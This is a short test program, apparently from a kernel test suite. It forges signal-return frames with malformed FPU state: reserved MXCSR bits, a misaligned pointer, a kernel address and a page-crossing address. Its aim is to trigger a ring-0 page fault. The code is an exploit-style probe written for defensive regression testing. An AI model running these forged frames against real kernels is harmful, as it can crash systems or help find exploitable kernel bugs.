/**
 * FXRSTOR of reserved MXCSR bits faults in ring 0: the kernel must mask or refuse what it takes from the user.
 *
 * @reaches call 15: zero
 * @reaches exception 14 0 at CPL 0
 */
import { addressOf, asm, store64, syscall } from 'palindrome/intrinsics';

/** @align 4096 */
const scratch = new Uint8Array(16384);
const base: u64 = addressOf(scratch);
const ALL: u64 = 0xffffffffffffffffn;

function attack(): void {
  { // 1: FPU state at base + 8192n, MXCSR 0xffffffffn
    if (syscall(57n) === 0n) {
      store64(base + 4264n, base + 12288n);
      store64(base + 4272n, 0x1000n);
      store64(base + 4280n, 0x202n);
      store64(base + 4328n, base + 8192n);
      store64(base + 8216n, 0xffffffffn);
      asm("mov rsp, rdi\nmov eax, 15\nsyscall", { rdi: base + 4104n }, 'rax');
      syscall(231n, 7n);
    }
    syscall(61n, ALL, 0n, 0n, 0n);
  }
  { // 2: FPU state at base + 8193n, MXCSR 0x1f80n
    if (syscall(57n) === 0n) {
      store64(base + 4264n, base + 12288n);
      store64(base + 4272n, 0x1000n);
      store64(base + 4280n, 0x202n);
      store64(base + 4328n, base + 8193n);
      store64(base + 8216n, 0x1f80n);
      asm("mov rsp, rdi\nmov eax, 15\nsyscall", { rdi: base + 4104n }, 'rax');
      syscall(231n, 7n);
    }
    syscall(61n, ALL, 0n, 0n, 0n);
  }
  { // 3: FPU state at 0xffffffff80100000n, MXCSR 0x1f80n
    if (syscall(57n) === 0n) {
      store64(base + 4264n, base + 12288n);
      store64(base + 4272n, 0x1000n);
      store64(base + 4280n, 0x202n);
      store64(base + 4328n, 0xffffffff80100000n);
      store64(base + 8216n, 0x1f80n);
      asm("mov rsp, rdi\nmov eax, 15\nsyscall", { rdi: base + 4104n }, 'rax');
      syscall(231n, 7n);
    }
    syscall(61n, ALL, 0n, 0n, 0n);
  }
  { // 4: FPU state at base + 16380n, MXCSR 0x1f80n
    if (syscall(57n) === 0n) {
      store64(base + 4264n, base + 12288n);
      store64(base + 4272n, 0x1000n);
      store64(base + 4280n, 0x202n);
      store64(base + 4328n, base + 16380n);
      store64(base + 8216n, 0x1f80n);
      asm("mov rsp, rdi\nmov eax, 15\nsyscall", { rdi: base + 4104n }, 'rax');
      syscall(231n, 7n);
    }
    syscall(61n, ALL, 0n, 0n, 0n);
  }
}
attack();
syscall(231n, 0n);
